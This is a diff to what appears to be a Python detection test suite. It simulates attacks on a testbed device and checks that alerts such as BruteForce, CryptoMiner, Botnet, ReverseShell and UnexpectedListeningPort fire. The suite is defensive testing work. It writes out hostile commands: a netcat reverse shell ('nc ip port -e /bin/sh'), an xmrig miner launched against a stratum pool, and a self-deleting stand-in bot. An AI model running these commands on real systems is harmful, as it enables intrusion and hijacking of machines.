@@ -116,11 +116,12 @@ def brute_force(bed: Testbed, attempts: int = 8) -> List[dict]:
             c.close()
 
     wait_for("the device's SSH server", lambda: (_ssh_banner(bed), None), timeout=120, interval=2)
+    mark = bed.mark()
     for i in range(attempts):
         assert not attempt(f"wrong-{i}"), "a wrong password was accepted"
-    bf = bed.wait_event("BruteForce", alert=True, timeout=120)
+    bf = bed.wait_event("BruteForce", alert=True, timeout=120, since=mark)
     assert attempt(bed.root_password), "the right password was refused"
-    ok = bed.wait_event("BruteForceSuccess", alert=True, timeout=120)
+    ok = bed.wait_event("BruteForceSuccess", alert=True, timeout=120, since=mark)
     for e in (bf, ok):
         assert evidence_mentions(e, bed.ssh_source), \
             f"{e['Name']} evidence does not name the source address {bed.ssh_source}: {evidence(e)}"
@@ -139,13 +140,14 @@ def _ssh_banner(bed: Testbed) -> bool:
 
 def crypto_miner(bed: Testbed) -> dict:
     pool = f"stratum+tcp://{bed.pool_address[0]}:{bed.pool_address[1]}"
+    mark = bed.mark()
     check(bed.target, f"cp {bed.payload_dir}/xmrig /tmp/xmrig && "
                       f"(/tmp/xmrig -o {pool} -u 44AFFq5kSiGBoZ -p x >/dev/null 2>&1 &)")
     wait_for("the miner's mining.subscribe at the fake pool", lambda: ("mining.subscribe" in bed.pool.methods(),
              bed.pool.methods()), timeout=60)
     pid = check(bed.target, "pidof xmrig").split()[0]
-    alert = bed.wait_event("CryptoMiner", alert=True, timeout=180)
-    assert evidence(alert).get("ProcessId") == int(pid), f"CryptoMiner evidence does not name pid {pid}: {evidence(alert)}"
+    alert = bed.wait_event("CryptoMiner", alert=True, timeout=180, since=mark,
+                           where=lambda e: evidence(e).get("ProcessId") == int(pid))
     assert evidence_mentions(alert, str(bed.pool_address[1])), f"no pool port in {evidence(alert)}"
     bed.run("killall xmrig; rm -f /tmp/xmrig")
     return alert
@@ -154,9 +156,11 @@ def crypto_miner(bed: Testbed) -> dict:
 def botnet(bed: Testbed) -> dict:
     name = secrets.token_hex(4)
     opens = _tcp_active_opens(bed)
+    mark = bed.mark()
     check(bed.target, f"cp {bed.payload_dir}/botnet /tmp/{name} && (/tmp/{name} 240 >/dev/null 2>&1 &) "
                       f"&& sleep 1 && rm /tmp/{name}")
-    alert = bed.wait_event("Botnet", alert=True, timeout=180, where=lambda e: evidence_mentions(e, name))
+    alert = bed.wait_event("Botnet", alert=True, timeout=180, where=lambda e: evidence_mentions(e, name),
+                           since=mark)
     assert "deleted-executable" in evidence(alert).get("Indicators", []), f"Botnet indicators: {evidence(alert)}"
     # The stand-in did what a bot does: a raw TCP socket, telnet fan-out.
     check(bed.target, "grep -q ':0006 ' /proc/net/raw")
@@ -173,12 +177,13 @@ def _tcp_active_opens(bed: Testbed) -> int:
 
 def reverse_shell(bed: Testbed) -> dict:
     ip, port = bed.listener_address
+    mark = bed.mark()
     check(bed.target, f"(nc {ip} {port} -e /bin/sh >/dev/null 2>&1 &)")
     bed.listener.accept(timeout=60)
     token = secrets.token_hex(4)
     got = bed.listener.command(f"echo shell-{token}", f"shell-{token}")
     assert f"shell-{token}" in got, f"the reverse shell did not answer: {got!r}"
-    alert = bed.wait_event("ReverseShell", alert=True, timeout=180)
+    alert = bed.wait_event("ReverseShell", alert=True, timeout=180, since=mark)
     assert evidence_mentions(alert, ip) and evidence_mentions(alert, str(port)), \
         f"ReverseShell evidence does not name the listener {ip}:{port}: {evidence(alert)}"
     bed.listener.command("exit", "")
@@ -186,10 +191,11 @@ def reverse_shell(bed: Testbed) -> dict:
 
 
 def unexpected_listening_port(bed: Testbed, port: int = 31337) -> dict:
+    mark = bed.mark()
     check(bed.target, f"(nc -l -p {port} >/dev/null 2>&1 &)")
-    alert = bed.wait_event("UnexpectedListeningPort", alert=True, timeout=180,
+    alert = bed.wait_event("UnexpectedListeningPort", alert=True, timeout=180, since=mark,
                            where=lambda e: evidence_mentions(e, str(port)))
-    bed.run(f"pkill -f 'nc -l -p {port}' || kill $(pidof nc)")
+    bed.run(f"for p in $(pidof nc); do grep -q {port} /proc/$p/cmdline && kill $p; done")
     return alert
 
 
